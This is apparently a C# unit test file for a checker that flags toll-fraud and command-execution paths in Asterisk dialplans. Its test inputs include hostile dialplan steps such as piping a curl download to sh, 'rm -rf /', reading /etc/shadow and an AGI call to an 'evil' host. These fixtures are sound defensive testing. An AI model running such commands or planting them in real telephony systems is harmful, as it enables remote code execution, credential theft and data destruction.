using AsteriskConfig.Tests.Parsing;

namespace AsteriskConfig.Tests;

/// <summary>
/// The toll-fraud checker flags what it must, so the check on the real dialplan cannot pass
/// vacuously (e.g. because it never follows an include or a Goto).
/// </summary>
public class ReachabilityCheckerTests
{
    private const string SafeCarrier = """
        [from-carrier]
        exten => _X.,1,Stasis(leaddesk,inbound,${EXTEN})
         same => n,Hangup()
        """;

    [Fact]
    public void A_safe_dialplan_has_no_violations()
    {
        Assert.Empty(CarrierPolicy.Violations(Dialplan.Parse(SafeCarrier)));
    }

    [Fact]
    public void Dial_to_the_trunk_in_an_included_context_is_flagged()
    {
        var dp = Dialplan.Parse(SafeCarrier + """

            include => outside
            [outside]
            exten => _00X.,1,Dial(PJSIP/${EXTEN}@carrier)
            """);
        var v = CarrierPolicy.Violations(dp);
        Assert.Contains(v, m => m.Contains("Dial is reachable", StringComparison.Ordinal));
        Assert.Contains(v, m => m.Contains("[outside] is reachable", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("Goto(evil,s,1)")]
    [InlineData("GotoIf($[1]?from-carrier,s,9:evil,s,1)")]
    [InlineData("Gosub(evil,s,1(arg))")]
    [InlineData("GosubIf($[${X}]?evil,s,1)")]
    [InlineData("Set(CHANNEL(hangup_handler_push)=evil,s,1)")]
    public void Jumps_into_a_context_with_System_are_followed(string jump)
    {
        var dp = Dialplan.Parse($$"""
            [from-carrier]
            exten => s,1,{{jump}}
            exten => s,9,NoOp()
            [evil]
            exten => s,1,System(curl http://x | sh)
            """);
        Assert.Contains(CarrierPolicy.Violations(dp), m => m.Contains("System is reachable", StringComparison.Ordinal));
    }

    [Fact]
    public void A_Local_channel_runs_the_dialplan_of_its_context()
    {
        var dp = Dialplan.Parse("""
            [from-carrier]
            exten => s,1,Queue(support)
             same => n,Dial(Local/${EXTEN}@outside)
            [outside]
            exten => _X.,1,Dial(PJSIP/${EXTEN}@carrier)
            """);
        var v = CarrierPolicy.Violations(dp);
        Assert.Contains(v, m => m.Contains("[outside] is reachable", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("Set(X=${SHELL(id)})", "SHELL")]
    [InlineData("NoOp(${EVAL(${CALLERID(name)})})", "EVAL")]
    [InlineData("Set(X=${FILE(/etc/shadow)})", "FILE")]
    public void Dangerous_functions_are_flagged_even_inside_allowed_applications(string step, string function)
    {
        var dp = Dialplan.Parse($"[from-carrier]\nexten => s,1,{step}\n");
        Assert.Contains(CarrierPolicy.Violations(dp), m => m.Contains($"function {function}()", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("Exec(Dial(PJSIP/1@carrier))", "Exec")]
    [InlineData("TrySystem(rm -rf /)", "TrySystem")]
    [InlineData("ExecIf($[1]?System(x))", "ExecIf")]
    [InlineData("AGI(agi://evil)", "AGI")]
    public void Applications_outside_the_allow_list_are_flagged(string step, string app)
    {
        var dp = Dialplan.Parse($"[from-carrier]\nexten => s,1,{step}\n");
        Assert.Contains(CarrierPolicy.Violations(dp), m => m.Contains($"{app} is reachable", StringComparison.Ordinal));
    }

    [Fact]
    public void Run_time_targets_switches_and_missing_contexts_are_flagged()
    {
        var dp = Dialplan.Parse("""
            [from-carrier]
            exten => s,1,Goto(${CALLERID(num)},s,1)
             same => n,Goto(nowhere,s,1)
            switch => Realtime/somewhere
            """);
        var v = CarrierPolicy.Violations(dp);
        Assert.Contains(v, m => m.Contains("computed at run time", StringComparison.Ordinal));
        Assert.Contains(v, m => m.Contains("[nowhere], which does not exist", StringComparison.Ordinal));
        Assert.Contains(v, m => m.Contains("switch", StringComparison.Ordinal));
    }
}
